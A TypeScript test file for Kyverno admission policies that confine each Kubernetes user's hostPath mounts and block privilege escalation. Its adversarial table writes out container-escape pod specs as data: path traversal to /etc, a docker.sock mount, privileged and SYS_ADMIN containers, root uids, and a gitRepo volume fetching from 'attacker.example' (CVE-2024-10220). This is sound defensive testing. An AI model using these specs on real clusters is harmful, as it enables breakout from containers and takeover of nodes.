// Adversarial table: every known way around the per-user hostPath confinement and dropped privileges
// must be denied by the rendered Kyverno policies, and every legitimate home-directory mount allowed.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compilePolicy, evaluatePolicy, loadPolicy } from '../kyverno/index.js';
import type { KubeObject } from '../kube/index.js';
import { parsePermissionUser, renderUser } from './index.js';

const { user } = parsePermissionUser({
  apiVersion: 'podgate.io/v1',
  kind: 'PermissionUser',
  metadata: { name: 'ray' },
  spec: { uid: 1001, gid: 1001, releaseId: 'l9x71kv' },
} as KubeObject);
/** A user's rendered ClusterPolicies, loaded and compiled (each must load without error). */
const compiledFor = (u: Parameters<typeof renderUser>[0]) =>
  renderUser(u, { psp: false })
    .filter((o) => o.kind === 'ClusterPolicy')
    .map((o) => {
      const r = loadPolicy(o);
      assert.deepEqual(r.errors, []);
      return compilePolicy(r.policy!);
    });
const policies = compiledFor(user!);

const container = (extra: Record<string, unknown> = {}) => ({
  name: 'c',
  image: 'busybox',
  securityContext: { allowPrivilegeEscalation: false, runAsUser: 1001 },
  volumeMounts: [{ name: 'h', mountPath: '/data' }],
  ...extra,
});

function podSpec(path: string | undefined, patch: (spec: Record<string, unknown>) => void = () => {}): Record<string, unknown> {
  const spec: Record<string, unknown> = {
    securityContext: { runAsUser: 1001 },
    containers: [container()],
    volumes: path === undefined ? [] : [{ name: 'h', hostPath: { path } }],
  };
  patch(spec);
  return spec;
}

function wrap(kind: string, spec: Record<string, unknown>): KubeObject {
  const metadata = { name: 'w', namespace: 'ray-restricted' };
  const template = { metadata: { labels: { app: 'w' } }, spec };
  switch (kind) {
    case 'Pod':
      return { apiVersion: 'v1', kind, metadata, spec } as KubeObject;
    case 'CronJob':
      return { apiVersion: 'batch/v1', kind, metadata, spec: { schedule: '* * * * *', jobTemplate: { spec: { template } } } } as KubeObject;
    case 'Job':
      return { apiVersion: 'batch/v1', kind, metadata, spec: { template } } as KubeObject;
    default:
      return { apiVersion: 'apps/v1', kind, metadata, spec: { selector: { matchLabels: { app: 'w' } }, template } } as KubeObject;
  }
}

function denials(o: KubeObject): string[] {
  return policies.flatMap((p) => evaluatePolicy(p, o, { namespaceLabels: { 'kubernetes.io/metadata.name': 'ray-restricted' } }).rules.filter((r) => r.status === 'fail' || r.status === 'error').map((r) => `${r.policy}/${r.rule}`));
}

const cases: { name: string; kind?: string; spec: Record<string, unknown>; allowed: boolean }[] = [
  { name: 'the home directory itself is allowed', spec: podSpec('/home/ray'), allowed: true },
  { name: 'a directory under home is allowed', spec: podSpec('/home/ray/data'), allowed: true },
  { name: 'home with a trailing slash is allowed', spec: podSpec('/home/ray/'), allowed: true },
  { name: 'a "." segment under home is allowed', spec: podSpec('/home/ray/./data'), allowed: true },
  { name: 'a pod without hostPath volumes is allowed', spec: podSpec(undefined), allowed: true },
  { name: 'traversal out of home is denied', spec: podSpec('/home/ray/../../etc'), allowed: false },
  { name: 'a sibling with the same prefix is denied', spec: podSpec('/home/ray2'), allowed: false },
  { name: 'a double slash hiding a traversal is denied', spec: podSpec('/home//ray/../x'), allowed: false },
  { name: 'a relative path is denied', spec: podSpec('home/ray'), allowed: false },
  { name: 'the parent directory is denied', spec: podSpec('/home'), allowed: false },
  { name: 'the root is denied', spec: podSpec('/'), allowed: false },
  { name: '/etc is denied', spec: podSpec('/etc'), allowed: false },
  {
    name: 'a second, bad hostPath volume after a good one is denied',
    spec: podSpec('/home/ray', (s) => {
      (s.volumes as unknown[]).push({ name: 'x', hostPath: { path: '/var/run/docker.sock' } });
    }),
    allowed: false,
  },
  { name: 'a privileged initContainer is denied', spec: podSpec('/home/ray', (s) => (s.initContainers = [container({ name: 'i', securityContext: { privileged: true, allowPrivilegeEscalation: false, runAsUser: 1001 } })])), allowed: false },
  { name: 'a privileged ephemeralContainer is denied', spec: podSpec('/home/ray', (s) => (s.ephemeralContainers = [container({ name: 'e', securityContext: { privileged: true, allowPrivilegeEscalation: false, runAsUser: 1001 } })])), allowed: false },
  { name: 'an added capability in an initContainer is denied', spec: podSpec('/home/ray', (s) => (s.initContainers = [container({ name: 'i', securityContext: { capabilities: { add: ['SYS_ADMIN'] }, allowPrivilegeEscalation: false, runAsUser: 1001 } })])), allowed: false },
  { name: 'hostNetwork is denied', spec: podSpec('/home/ray', (s) => (s.hostNetwork = true)), allowed: false },
  { name: 'running as root is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 0 })), allowed: false },
  { name: 'a container running as another uid is denied', spec: podSpec('/home/ray', (s) => (s.containers = [container({ securityContext: { allowPrivilegeEscalation: false, runAsUser: 0 } })])), allowed: false },
  // Session 6 permissions probe: what the user's PSP refused and no per-user policy checked.
  { name: 'a gitRepo volume is denied (its hooks run on the node: CVE-2024-10220)', spec: podSpec('/home/ray', (s) => (s.volumes as unknown[]).push({ name: 'g', gitRepo: { repository: 'https://attacker.example/x.git' } })), allowed: false },
  { name: 'an nfs volume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'n', nfs: { server: 'headnode', path: '/' } }])), allowed: false },
  { name: 'an inline csi volume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'c', csi: { driver: 'x.example.com' } }])), allowed: false },
  { name: 'a flexVolume is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'f', flexVolume: { driver: 'x/y' } }])), allowed: false },
  { name: 'a downwardAPI volume is denied (not in the PSP either)', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'd', downwardAPI: { items: [] } }])), allowed: false },
  {
    name: 'the service-account token volume the API server adds is allowed',
    spec: podSpec('/home/ray', (s) =>
      (s.volumes as unknown[]).push({
        name: 'kube-api-access-abcde',
        projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3607 } }, { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } }, { downwardAPI: { items: [{ path: 'namespace', fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.namespace' } }] } }] },
      }),
    ),
    allowed: true,
  },
  { name: 'a projected volume with another source (clusterTrustBundle, 1.29) is denied', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'p', projected: { sources: [{ serviceAccountToken: { path: 't' } }, { clusterTrustBundle: { path: 'b' } }] } }])), allowed: false },
  { name: 'configMap, secret, emptyDir and persistentVolumeClaim volumes are allowed', spec: podSpec(undefined, (s) => (s.volumes = [{ name: 'a', configMap: { name: 'x' } }, { name: 'b', secret: { secretName: 'x' } }, { name: 'c', emptyDir: {} }, { name: 'd', persistentVolumeClaim: { claimName: 'x' } }])), allowed: true },
  { name: 'fsGroup 0 is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, fsGroup: 0 })), allowed: false },
  { name: 'a supplemental group 0 is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, supplementalGroups: [1001, 0] })), allowed: false },
  { name: "another user's gid as supplemental group is denied", spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, supplementalGroups: [1002] })), allowed: false },
  { name: 'runAsGroup 0 on the pod is denied', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, runAsGroup: 0 })), allowed: false },
  { name: 'runAsGroup 0 on a container is denied', spec: podSpec('/home/ray', (s) => (s.containers = [container({ securityContext: { allowPrivilegeEscalation: false, runAsUser: 1001, runAsGroup: 0 } })])), allowed: false },
  { name: "the user's own gid everywhere is allowed", spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, runAsGroup: 1001, fsGroup: 1001, supplementalGroups: [1001] })), allowed: true },
  { name: 'a Deployment with fsGroup 0 is denied (autogen)', kind: 'Deployment', spec: podSpec('/home/ray', (s) => (s.securityContext = { runAsUser: 1001, fsGroup: 0 })), allowed: false },
  { name: 'a Deployment mounting home is allowed', kind: 'Deployment', spec: podSpec('/home/ray/data'), allowed: true },
  { name: 'a DaemonSet mounting /etc is denied (autogen)', kind: 'DaemonSet', spec: podSpec('/etc'), allowed: false },
  { name: 'a StatefulSet with traversal is denied (autogen)', kind: 'StatefulSet', spec: podSpec('/home/ray/../../root'), allowed: false },
  { name: 'a Job with a sibling prefix is denied (autogen)', kind: 'Job', spec: podSpec('/home/ray2/x'), allowed: false },
  { name: 'a CronJob mounting /etc is denied (autogen-cronjob)', kind: 'CronJob', spec: podSpec('/etc'), allowed: false },
  { name: 'a CronJob mounting home is allowed', kind: 'CronJob', spec: podSpec('/home/ray'), allowed: true },
];

for (const c of cases) {
  test(c.name, () => {
    const d = denials(wrap(c.kind ?? 'Pod', c.spec));
    if (c.allowed) assert.deepEqual(d, []);
    else assert.notDeepEqual(d, [], 'expected a denial');
  });
}

test('the hostPath denial carries the seed message, naming the policy as the rule', () => {
  const r = evaluatePolicy(policies.find((p) => p.policy.name === 'ray-l9x71kv-lhv')!, wrap('Pod', podSpec('/etc')), {});
  assert.deepEqual(
    r.rules.map((x) => [x.rule, x.status, x.message]),
    [['ray-l9x71kv-lhv', 'fail', 'validation failure: hostPath volumes are confined to [/home/ray].']],
  );
});

test('a pod that relied on PSP defaulting is mutated like PSP did and then admitted', async () => {
  const { admitResource } = await import('../kyverno/index.js');
  const pod = wrap('Deployment', { containers: [{ name: 'c', image: 'busybox' }] });
  const out = admitResource(policies, pod, { namespaceLabels: { 'kubernetes.io/metadata.name': 'ray-restricted' } });
  const spec = (out.patched.spec as { template: { spec: Record<string, unknown> } }).template.spec;
  assert.deepEqual(spec.securityContext, { runAsUser: 1001, fsGroup: 1001, supplementalGroups: [1001] });
  assert.deepEqual((spec.containers as { securityContext: unknown }[])[0]!.securityContext, { allowPrivilegeEscalation: false });
  assert.equal(spec.initContainers, undefined, 'no initContainers are invented');
  assert.deepEqual(out.validateResults.flatMap((r) => r.rules.filter((x) => x.status === 'fail').map((x) => x.rule)), []);
});

// A read-only grant (`readOnly: true`, as the PSP's allowedHostPaths) must be mounted read-only by every
// container; a read-write grant that also covers the path makes it writable, as in PSP.
const { user: bob } = parsePermissionUser({
  apiVersion: 'podgate.io/v1',
  kind: 'PermissionUser',
  metadata: { name: 'bob' },
  spec: { uid: 1002, gid: 1002, releaseId: 'bob1234', hostPaths: [{ pathPrefix: '/data/shared', readOnly: true }, { pathPrefix: '/home/bob' }, { pathPrefix: '/scratch', readOnly: true }, { pathPrefix: '/scratch/bob' }] },
} as KubeObject);
const bobPolicies = compiledFor(bob!);

function bobPod(path: string, mounts: Record<string, unknown>[], init: Record<string, unknown>[] = []): KubeObject {
  const c = (name: string, m: Record<string, unknown>[]) => ({ name, image: 'busybox', securityContext: { allowPrivilegeEscalation: false, runAsUser: 1002 }, volumeMounts: m });
  const spec: Record<string, unknown> = { securityContext: { runAsUser: 1002 }, containers: [c('c', mounts)], volumes: [{ name: 'h', hostPath: { path } }] };
  if (init.length > 0) spec.initContainers = [c('i', init)];
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'w', namespace: 'bob-restricted' }, spec } as KubeObject;
}

const bobDenials = (o: KubeObject) => bobPolicies.flatMap((p) => evaluatePolicy(p, o, { namespaceLabels: { 'kubernetes.io/metadata.name': 'bob-restricted' } }).rules.filter((r) => r.status === 'fail' || r.status === 'error').map((r) => `${r.rule}: ${r.message}`));

const readOnlyCases: { name: string; pod: KubeObject; allowed: boolean }[] = [
  { name: 'a read-only grant mounted read-only is allowed', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s', readOnly: true }]), allowed: true },
  { name: 'a read-only grant mounted without readOnly is denied', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s' }]), allowed: false },
  { name: 'a read-only grant mounted readOnly: false is denied', pod: bobPod('/data/shared/x', [{ name: 'h', mountPath: '/s', readOnly: false }]), allowed: false },
  { name: 'a read-only grant mounted read-write by an initContainer is denied', pod: bobPod('/data/shared', [{ name: 'h', mountPath: '/s', readOnly: true }], [{ name: 'h', mountPath: '/s' }]), allowed: false },
  { name: 'a traversal into a read-only grant is still read-only', pod: bobPod('/home/bob/../../data/shared', [{ name: 'h', mountPath: '/s' }]), allowed: false },
  { name: 'the read-write home grant is writable', pod: bobPod('/home/bob', [{ name: 'h', mountPath: '/s' }]), allowed: true },
  { name: 'a read-write grant inside a read-only one is writable (as in PSP)', pod: bobPod('/scratch/bob/run', [{ name: 'h', mountPath: '/s' }]), allowed: true },
  { name: 'the read-only parent of a read-write grant is read-only', pod: bobPod('/scratch', [{ name: 'h', mountPath: '/s' }]), allowed: false },
];

for (const c of readOnlyCases) {
  test(c.name, () => {
    const d = bobDenials(c.pod);
    if (c.allowed) assert.deepEqual(d, []);
    else assert.notDeepEqual(d, [], 'expected a denial');
  });
}
